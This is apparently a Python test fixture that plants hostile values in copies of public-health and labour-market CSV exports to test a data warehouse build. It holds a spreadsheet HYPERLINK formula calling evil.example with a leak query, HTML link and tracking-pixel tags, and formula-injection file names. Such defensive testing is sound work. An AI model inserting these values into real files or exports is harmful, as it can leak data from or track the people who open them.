"""Hostile source files: the good fixtures with formulas, markup and a blank line planted where a real ICB's
or website's file could carry them. ``write(directory)`` makes the set; tests build a warehouse from it."""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

GOOD = Path(__file__).parent / "fixtures" / "sources" / "good"
FORMULA = '=HYPERLINK("https://evil.example/?q=leak","Click for details")'
LINK = '<a href="https://evil.example/link">more</a>'
IMAGE = '<img src="https://evil.example/pixel.png">'
VALUE_NOTE = f"* Value suppressed\n\n{LINK}{IMAGE}"
PILOT_NAME = "=1+2 pilot returns.csv"
NOMIS_NAME = "@SUM(1+1) nomis download.csv"
EVIL_HOST = "evil.example"


def _rewrite(path: Path, change) -> None:
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    rows = [change(i, row) for i, row in enumerate(rows)]
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def write(directory: Path) -> Path:
    """The hostile set in ``directory`` (created); returns it."""
    shutil.copytree(GOOD, directory)

    def fingertips(i, row):
        if i == 0:
            return row
        row[1] = FORMULA  # Indicator Name: an axis title, a column of every export
        if row[4] == "E54000054":
            row[19] = VALUE_NOTE  # Value note of a suppressed value: the "Show as table" cell
        return row
    _rewrite(directory / "fingertips_export.csv", fingertips)

    def nomis(i, row):
        if i and row[9].startswith("%"):
            row[9] = f"{row[9]} {LINK}{IMAGE}"  # VARIABLE_NAME: the published chart's axis title
        return row
    _rewrite(directory / "nomis_aps_lts.csv", nomis)

    def inac01(i, row):
        if i == 0:
            row[0] = f"{FORMULA} INAC01 SA: Economic inactivity by reason (thousands) seasonally adjusted"
        if len(row) > 4 and row[4] == "Long-term sick":
            row[4] = f"-Long-term sick {LINK}"
        return row
    _rewrite(directory / "inac01_people.csv", inac01)
    (directory / "pilot_returns_q2.csv").rename(directory / PILOT_NAME)
    (directory / "nomis_aps_lts.csv").rename(directory / NOMIS_NAME)
    return directory


def build(base: Path, with_demo: bool = True) -> Path:
    """A small warehouse built with ``--source`` from the hostile set (with the demo's facts unless told not),
    under ``base``; returns its path."""
    from data import build as builder

    path = base / "hostile.duckdb"
    builder.build_source(path, write(base / "src"), participants=2_000, seed=1, with_demo=with_demo)
    return path
